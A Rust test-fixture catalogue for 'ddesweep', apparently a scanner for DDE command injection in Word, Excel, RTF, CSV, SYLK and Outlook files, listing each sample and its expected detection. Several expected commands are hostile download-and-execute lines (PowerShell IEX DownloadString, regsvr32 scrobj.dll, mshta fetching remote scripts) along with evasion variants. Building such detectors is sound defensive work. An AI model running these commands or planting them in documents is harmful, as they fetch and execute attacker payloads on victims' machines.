//! The list of every fixture under `testdata/`: its path, the function that
//! builds it and what `ddesweep` is expected to report for it.

use crate::{
    biff, container, doc, encrypted, evasions, evidence, hostile, msg, negative, objects,
    office_xml, positive, slides, xlsb,
};

/// What the tool should report for a fixture.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// No DDE finding (warnings or a read error are allowed for hostile
    /// inputs).
    Clean,
    /// Exactly these commands, in document order.
    Commands(&'static [&'static str]),
    /// At least one DDE finding; the exact command text is not pinned down.
    Detected,
}

/// One catalogued fixture.
#[derive(Debug, Clone, Copy)]
pub struct Entry {
    /// Path relative to `testdata/`, with `/` separators.
    pub path: &'static str,
    /// Builds the file's bytes.
    pub build: fn() -> Vec<u8>,
    /// Expected report.
    pub expect: Expect,
}

const fn entry(path: &'static str, build: fn() -> Vec<u8>, expect: Expect) -> Entry {
    Entry {
        path,
        build,
        expect,
    }
}

use Expect::{Clean, Commands, Detected};

/// Every fixture, in the order [`crate::fixtures`] returns them.
pub const CATALOG: &[Entry] = &[
    entry(
        "documents/positive/word-ddeauto-runs.docx",
        positive::word_ddeauto_runs,
        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
    ),
    entry(
        "documents/positive/word-dde-fldsimple.docx",
        positive::word_dde_fldsimple,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c notepad.exe""#]),
    ),
    entry(
        "documents/positive/word-every-part.docm",
        positive::word_every_part,
        Commands(&[
            r#"cmd.exe "/c echo body""#,
            r#"cmd.exe "/c echo header""#,
            r#"cmd.exe "/c echo footer""#,
            r#"cmd.exe "/c echo footnote""#,
            r#"cmd.exe "/c echo endnote""#,
            r#"cmd.exe "/c echo comment""#,
        ]),
    ),
    entry(
        "documents/positive/word-quote-nested.docx",
        positive::word_quote_nested,
        Commands(&[r#"C:\Windows\System32\cmd.exe "/c calc.exe""#]),
    ),
    entry(
        "documents/positive/word-lowercase.dotm",
        positive::word_lowercase,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c whoami""#]),
    ),
    entry(
        "documents/positive/excel-ddelink.xlsx",
        positive::excel_ddelink,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/excel-formula.xlsm",
        positive::excel_formula,
        Commands(&[
            "cmd /c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')",
        ]),
    ),
    entry(
        "documents/positive/rtf-ddeauto.rtf",
        positive::rtf_ddeauto,
        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
    ),
    entry(
        "documents/positive/rtf-escaped.rtf",
        positive::rtf_escaped,
        Commands(&[
            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            r#"c:\windows\system32\cmd.exe "/c mspaint.exe""#,
        ]),
    ),
    entry(
        "documents/positive/csv-cmd.csv",
        positive::csv_cmd,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/csv-utf16.csv",
        positive::csv_utf16,
        Commands(&["cmd /c notepad.exe"]),
    ),
    entry(
        "documents/positive/csv-bom.tsv",
        positive::csv_bom_tsv,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/csv-libreoffice.csv",
        positive::csv_libreoffice,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/txt-formula.txt",
        positive::txt_formula,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/evasion-one-run.docx",
        evasions::one_run,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c calc.exe""#]),
    ),
    entry(
        "documents/positive/evasion-wrappers.docx",
        evasions::wrappers,
        Commands(&[
            r#"cmd.exe "/c echo smartTag""#,
            r#"cmd.exe "/c echo ins""#,
            r#"cmd.exe "/c echo hyperlink""#,
            r#"cmd.exe "/c echo sdt""#,
            r#"cmd.exe "/c echo customXml""#,
            r#"cmd.exe "/c echo spanning""#,
        ]),
    ),
    entry(
        "documents/positive/evasion-alternate-content.docx",
        evasions::alternate_content,
        Commands(&[
            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            r#"cmd.exe "/c echo fallback""#,
        ]),
    ),
    entry(
        "documents/positive/evasion-strict.docx",
        evasions::strict,
        Commands(&[r#"C:\Windows\System32\cmd.exe "/c powershell -nop -c calc.exe""#]),
    ),
    entry(
        "documents/positive/evasion-unterminated.docx",
        evasions::unterminated,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c echo unterminated""#]),
    ),
    entry(
        "documents/positive/evasion-quote-split.docx",
        evasions::quote_split,
        Commands(&[r#"cmd.exe "/c calc.exe""#]),
    ),
    entry(
        "documents/positive/evasion-mixed-case.docx",
        evasions::mixed_case,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c echo mixed""#]),
    ),
    entry(
        "documents/positive/evasion-fullwidth.csv",
        evasions::csv_fullwidth,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/evasion-leading-quotes.csv",
        evasions::csv_leading_quotes,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/evasion-concat.csv",
        evasions::csv_concat,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/evasion-msexcel.csv",
        evasions::csv_msexcel,
        Commands(&[r"\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"]),
    ),
    entry(
        "documents/positive/word2003.xml",
        office_xml::word2003_dde,
        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
    ),
    entry(
        "documents/positive/word2003-equation.xml",
        office_xml::word2003_equation,
        Detected,
    ),
    entry(
        "documents/positive/flat-opc.xml",
        office_xml::flat_opc_dde,
        Detected,
    ),
    entry(
        "documents/positive/excel2003.xml",
        office_xml::excel2003_dde,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/sylk-cmd.slk",
        office_xml::sylk_dde,
        Commands(&["CMD /C calc.exe"]),
    ),
    entry(
        "documents/positive/webquery.iqy",
        office_xml::webquery,
        Commands(&["http://198.51.100.23/dde/2.dat"]),
    ),
    entry(
        "documents/positive/slides.pptx",
        slides::slides_dde,
        Detected,
    ),
    entry(
        "documents/positive/slides-equation.ppsx",
        slides::slides_equation,
        Detected,
    ),
    entry(
        "documents/positive/word-legacy.doc",
        doc::word_legacy,
        Commands(&[doc::LEGACY_COMMAND]),
    ),
    entry(
        "documents/positive/word-embedded-sheet.doc",
        container::word_with_embedded_sheet,
        // The link's strings are stored in BIFF form; the integration tests pin the commands.
        Detected,
    ),
    entry(
        "documents/positive/slides-ole-link.pptx",
        slides::slides_ole_link,
        Commands(&[slides::OLE_LINK_TARGET]),
    ),
    entry(
        "documents/positive/word-legacy-padded.dot",
        doc::word_legacy_padded,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c whoami""#]),
    ),
    entry(
        "documents/positive/word-legacy-orphan.doc",
        doc::word_legacy_orphan,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c calc.exe""#]),
    ),
    entry(
        "documents/positive/excel-agile-velvet.xlsx",
        encrypted::excel_agile_velvet,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/excel-standard-velvet.xlsx",
        encrypted::excel_standard_velvet,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/rtf-equation.rtf",
        objects::rtf_equation,
        Detected,
    ),
    entry(
        "documents/positive/word-equation.docx",
        objects::word_equation,
        Detected,
    ),
    entry(
        "documents/positive/word-package.docx",
        objects::word_package,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/outlook-dde.msg",
        msg::outlook_dde,
        Commands(&[
            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            "cmd /c notepad.exe",
        ]),
    ),
    entry(
        "documents/positive/excel-legacy.xls",
        biff::excel_legacy,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/positive/excel-binary.xlsb",
        xlsb::excel_binary,
        Commands(&["cmd /c notepad.exe"]),
    ),
    // Encrypted: the command is not in the file's bytes (the integration tests pin it).
    entry(
        "documents/positive/excel-legacy-velvet.xls",
        biff::excel_legacy_velvet,
        Detected,
    ),
    entry(
        "documents/negative/word-benign-fields.docx",
        negative::word_benign_fields,
        Clean,
    ),
    entry(
        "documents/negative/excel-benign.xlsx",
        negative::excel_benign,
        Clean,
    ),
    entry(
        "documents/negative/rtf-benign.rtf",
        negative::rtf_benign,
        Clean,
    ),
    entry(
        "documents/negative/csv-benign.csv",
        negative::csv_benign,
        Clean,
    ),
    entry(
        "documents/negative/evasion-number-bar.csv",
        evasions::csv_number_bar,
        Clean,
    ),
    entry(
        "documents/negative/word2003-clean.xml",
        office_xml::word2003_clean,
        Clean,
    ),
    entry(
        "documents/negative/flat-opc-clean.xml",
        office_xml::flat_opc_clean,
        Clean,
    ),
    entry(
        "documents/negative/excel2003-clean.xml",
        office_xml::excel2003_clean,
        Clean,
    ),
    entry(
        "documents/negative/sylk-clean.slk",
        office_xml::sylk_clean,
        Clean,
    ),
    entry(
        "documents/negative/slides-clean.pptx",
        slides::slides_clean,
        Clean,
    ),
    entry(
        "documents/negative/word-legacy-benign.doc",
        doc::word_legacy_benign,
        Clean,
    ),
    entry(
        "documents/negative/rtf-picture-object.rtf",
        objects::rtf_picture_object,
        Clean,
    ),
    entry(
        "documents/negative/outlook-plain.msg",
        msg::outlook_plain,
        Clean,
    ),
    entry(
        "documents/negative/excel-legacy-benign.xls",
        biff::excel_legacy_benign,
        Clean,
    ),
    entry("documents/hostile/empty.docx", hostile::empty, Clean),
    entry("documents/hostile/corrupt.docx", hostile::corrupt, Clean),
    entry(
        "documents/hostile/truncated.docx",
        hostile::truncated,
        Clean,
    ),
    entry("documents/hostile/zipbomb.docx", hostile::zipbomb, Clean),
    entry(
        "documents/hostile/deep-nesting.rtf",
        hostile::deep_nesting,
        Clean,
    ),
    entry(
        "documents/hostile/deep-fields.docx",
        hostile::deep_fields,
        Clean,
    ),
    entry(
        "documents/hostile/invalid-utf8.docx",
        hostile::invalid_utf8,
        Commands(&["c:\\windows\\system32\\cmd.exe \"/c calc.exe\u{FFFD}\u{FFFD}\""]),
    ),
    entry(
        "documents/hostile/invalid-utf16.csv",
        hostile::invalid_utf16,
        Commands(&["cmd /c calc.exe"]),
    ),
    entry(
        "documents/hostile/truncated-xml.docx",
        hostile::truncated_xml,
        Commands(&[r#"c:\windows\system32\cmd.exe "/c truncated""#]),
    ),
    entry(
        "documents/hostile/word-legacy-bad-fib.doc",
        doc::word_legacy_bad_fib,
        Commands(&[r#"cmd.exe "/c calc.exe""#, r#"cmd.exe "/c notepad.exe""#]),
    ),
    entry(
        "documents/hostile/encrypted-unknown-password.docx",
        encrypted::encrypted_unknown_password,
        Clean,
    ),
    entry(
        "documents/hostile/excel-legacy-bad-records.xls",
        biff::excel_legacy_bad_records,
        Commands(&["cmd /c echo damaged"]),
    ),
    entry(
        "sample-evidence/C/Users/alice/Downloads/Invoice_2291.docx",
        evidence::invoice,
        Detected,
    ),
    entry(
        "sample-evidence/C/Users/alice/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/7XK2LQ0B/Payment_Advice.xlsx",
        evidence::payment_advice,
        Commands(&["cmd /c mshta http://198.51.100.23/pa.hta"]),
    ),
    entry(
        "sample-evidence/C/Users/bob/Desktop/export.csv",
        evidence::contacts_export,
        Commands(&[r"\Windows\System32\cmd.exe /c calc.exe"]),
    ),
    entry(
        "sample-evidence/C/Users/bob/Documents/Quarterly_Report.docx",
        evidence::quarterly_report,
        Clean,
    ),
    entry(
        "sample-evidence/C/Users/alice/Documents/notes.txt",
        evidence::notes,
        Clean,
    ),
    entry(
        "sample-evidence/C/Users/alice/Pictures/photo.jpg",
        evidence::photo,
        Clean,
    ),
];

/// The catalogue entry for `path` (relative to `testdata/`).
pub fn find(path: &str) -> Option<&'static Entry> {
    CATALOG.iter().find(|e| e.path == path)
}
